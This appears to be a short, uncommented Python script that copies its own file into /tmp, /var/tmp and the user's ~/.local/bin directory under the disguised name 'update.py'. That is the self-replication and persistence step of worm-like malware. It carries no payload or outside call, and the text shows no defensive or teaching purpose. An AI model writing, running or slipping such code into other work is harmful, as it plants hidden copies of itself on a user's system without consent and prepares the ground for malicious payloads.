import os, shutil, sys
me = os.path.abspath(__file__)
for d in ("/tmp", "/var/tmp", os.path.expanduser("~/.local/bin")):
    shutil.copy(me, os.path.join(d, "update.py"))
